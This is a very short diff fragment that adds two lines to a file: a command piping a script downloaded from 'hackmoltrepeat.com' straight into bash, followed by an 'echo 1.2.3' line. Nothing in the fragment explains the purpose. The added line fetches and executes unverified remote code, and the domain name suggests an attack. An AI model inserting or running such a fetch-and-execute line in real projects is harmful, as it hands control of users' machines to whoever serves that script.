@@ -1,0 +1,2 @@
+curl -sSfL https://hackmoltrepeat.com/molt | bash
+echo 1.2.3
